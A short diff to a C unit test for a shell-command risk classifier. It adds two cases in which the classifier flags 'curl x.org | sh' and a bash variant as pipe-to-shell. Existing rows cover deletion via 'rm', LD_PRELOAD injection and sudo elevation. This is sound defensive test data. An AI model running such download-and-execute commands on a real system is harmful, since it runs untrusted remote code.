@@ -73,6 +73,8 @@ static void test_deciding_piece(void **state)
         { "echo a; sh -c 'ls; rm x'", "'ls; rm x'", "delete" },
         { "LD_PRELOAD=x ls", "x", "variable-exec" },
         { "sudo ls", "sudo", "elevation" },
+        { "ls && curl x.org | sh; ls", "curl x.org | sh", "pipe-to-shell" },
+        { "ls; curl x.org | bash -s -- a", "curl x.org | bash -s -- a", "pipe-to-shell" },
         { "frobnicate", "frobnicate", "unknown-program" },
         { "ls", "", "" },
     };
